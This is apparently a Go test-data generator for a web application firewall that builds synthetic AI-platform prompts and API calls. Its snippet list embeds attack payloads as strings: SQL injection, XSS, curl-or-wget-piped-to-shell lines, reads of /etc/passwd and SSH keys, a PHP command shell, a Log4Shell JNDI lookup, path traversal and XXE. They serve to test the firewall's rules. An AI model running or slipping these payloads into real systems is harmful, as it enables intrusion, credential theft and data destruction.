package main

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"drun.io/services/waf/internal/config"
)

// seed makes every run ask the same.
const seed = 20261127

func pick[T any](random *rand.Rand, from []T) T { return from[random.IntN(len(from))] }

var words = strings.Fields(`model training batch deployment gpu cluster token budget report customer invoice latency dataset pipeline
	schedule region tenant quota endpoint vector index prompt answer summary translate explain compare between table column user group order
	history select update insert delete union from where when while echo script image frame form input value script session cookie admin`)

// nouns are what objects of the platform are called after.
var nouns = strings.Fields(`model training batch cluster budget report customer invoice latency dataset pipeline region quota vector
	index answer summary frontend ranking speech vision catalog weather finance health sales search`)

var sentences = []string{
	"Please explain why the following code fails and how to fix it.", "Rewrite this query so that it uses an index.",
	"What does this shell script do, step by step?", "Summarize the text below in three sentences.", "Translate the following into German.",
	"请解释下面的代码为什么会失败，并给出修改建议。", "把下面这段话翻译成英文，并保持原来的语气。", "اشرح لي كيف يعمل هذا الكود خطوة بخطوة.", "ما الفرق بين هذين الاستعلامين؟",
	"Объясни, почему этот запрос работает медленно.", "Переведи текст ниже на английский язык.", "Erkläre mir bitte, was dieses Skript tut.",
	"Übersetze den folgenden Absatz und achte auf die Grüße am Ende.", "¿Puedes corregir los errores de este programa?", "Peux-tu résumer l'article ci-dessous ?",
	"次のコードのバグを見つけてください。", "아래 코드가 왜 느린지 설명해 주세요.", "Write a limerick about a data centre; don't forget the punch line!",
}

// snippets are what people paste: it is what rules look for.
var snippets = []func(random *rand.Rand) string{
	func(r *rand.Rand) string {
		return fmt.Sprintf("SELECT u.id, u.password FROM users u WHERE u.name = '%s' OR 1=1 UNION SELECT null, version()-- ", pick(r, words))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("DROP TABLE %s; INSERT INTO logs VALUES ('x', sleep(%d));", pick(r, words), r.IntN(9))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("<div onclick=\"alert('%s')\"><script>document.cookie='a=%d'</script><iframe src=javascript:void(0)></div>", pick(r, words), r.IntN(99))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("#!/bin/bash\nset -e\ncurl -s http://10.0.0.%d/%s | sh; cat /etc/passwd | grep root && rm -rf /tmp/%s", r.IntN(255), pick(r, words), pick(r, words))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("import os\nos.system('ls -la %s')\neval(compile(open('%s.py').read(), '<string>', 'exec'))", pick(r, words), pick(r, words))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("<?php $q = $_GET['%s']; system($q); include('../../%s.php'); ?>", pick(r, words), pick(r, words))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("const { exec } = require('child_process'); exec(`cat ${process.env.HOME}/.ssh/id_rsa`); // %s\nObject.prototype.__proto__.%s = 1;", pick(r, words), pick(r, words))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("{{7*7}} ${jndi:ldap://%s.example/a} %%{(#a=@java.lang.Runtime@getRuntime())}", pick(r, words))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("GET /%s/../../windows/system32/cmd.exe HTTP/1.1\r\nHost: %s\r\n\r\npowershell -enc SQBFAFgA", pick(r, words), pick(r, words))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("apiVersion: v1\nkind: Pod\nmetadata: {name: %s}\nspec:\n  containers: [{name: a, command: [sh, -c, \"wget -qO- %s | bash\"]}]", pick(r, words), pick(r, words))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/%s\">]><x>&e;</x>", pick(r, words))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("def %s(n: int) -> int:\n    return n if n < 2 else %s(n - 1) + %s(n - 2)", pick(r, words), pick(r, words), pick(r, words))
	},
}

// prompt is what a person may ask a model: words, several languages, and mostly something that was pasted.
func prompt(random *rand.Rand) string {
	var text strings.Builder
	text.WriteString(pick(random, sentences))
	for range random.IntN(3) {
		text.WriteString("\n\n")
		if random.IntN(4) == 0 {
			for range 5 + random.IntN(40) {
				text.WriteString(pick(random, words) + " ")
			}
			continue
		}
		text.WriteString(pick(random, snippets)(random))
	}
	return text.String()
}

// platformCall is a call that the platform's own clients make: its objects, as their tools send them.
func platformCall(random *rand.Rand) exchange {
	one, tenant := aCall(random)
	if tenant == "northwind-labs" {
		// Rule 942140 finds names of sample databases, among them northwind: this tenant's route has an exclusion.
		one.exclusions = []config.Exclusion{{Rule: 942140, Reason: "the tenant is called like a sample database", Expires: time.Now().AddDate(0, 1, 0)}}
	}
	return one
}

func aCall(random *rand.Rand) (exchange, string) {
	name := fmt.Sprintf("%s-%s-%04x", pick(random, nouns), pick(random, nouns), random.IntN(1<<16))
	tenant := pick(random, []string{"acme", "northwind-labs", "beta", "umbra-research", "t-0042"})
	base := "/v1/tenants/" + tenant + "/" + pick(random, []string{"deployments", "models", "keys", "queues", "datasets", "jobs"})
	uid := fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", random.Uint32(), random.IntN(1<<16), random.IntN(1<<12), random.IntN(1<<12), random.Uint64()&(1<<48-1))
	switch random.IntN(6) {
	case 0:
		return exchange{method: "GET", path: fmt.Sprintf("%s?limit=%d&labelSelector=app%%3D%s&continue=%s", base, random.IntN(500), pick(random, nouns), uid)}, tenant
	case 1:
		return exchange{method: "GET", path: base + "/" + name}, tenant
	case 2:
		return exchange{method: "DELETE", path: base + "/" + name + "?gracePeriod=30s"}, tenant
	case 3:
		return exchange{method: "PATCH", path: base + "/" + name, json: map[string]any{"spec": map[string]any{"replicas": random.IntN(9), "paused": random.IntN(2) == 0}}}, tenant
	}
	env := []map[string]any{}
	for n := range random.IntN(8) {
		env = append(env, map[string]any{"name": strings.ToUpper(pick(random, nouns)) + fmt.Sprint("_", n), "value": fmt.Sprint(pick(random, nouns), random.IntN(1000))})
	}
	return exchange{method: "POST", path: base, json: map[string]any{
		"apiVersion": "drun.io/v1", "kind": pick(random, []string{"Deployment", "Job", "Model", "Queue"}),
		"metadata": map[string]any{"name": name, "namespace": tenant + "-serve", "uid": uid, "labels": map[string]any{"app.kubernetes.io/name": pick(random, nouns), "team": pick(random, nouns)},
			"annotations": map[string]any{"drun.io/owner": "ml@" + tenant + ".example", "drun.io/note": "Raised by " + pick(random, nouns) + " for the " + pick(random, nouns) + " report, see ticket " + fmt.Sprint(random.IntN(9999)) + "."}},
		"spec": map[string]any{
			"image": fmt.Sprintf("registry.%s.example/%s/%s@sha256:%064x", tenant, pick(random, nouns), name, random.Uint64()), "replicas": random.IntN(20),
			"resources": map[string]any{"cpu": fmt.Sprint(random.IntN(16)), "memory": fmt.Sprint(random.IntN(64), "Gi"), "gpu": map[string]any{"mode": "mig", "profile": "1g.10gb", "count": random.IntN(8)}},
			"env":       env, "schedule": fmt.Sprintf("%d %d * * *", random.IntN(60), random.IntN(24)), "egress": []string{"api.openai.com:443", "pypi.example:443"},
			"callback": "https://hooks." + tenant + ".example/events/" + name, "window": map[string]any{"from": "2026-11-27T08:00:00Z", "until": "2026-12-31T18:00:00+01:00"},
		},
	}}, tenant
}
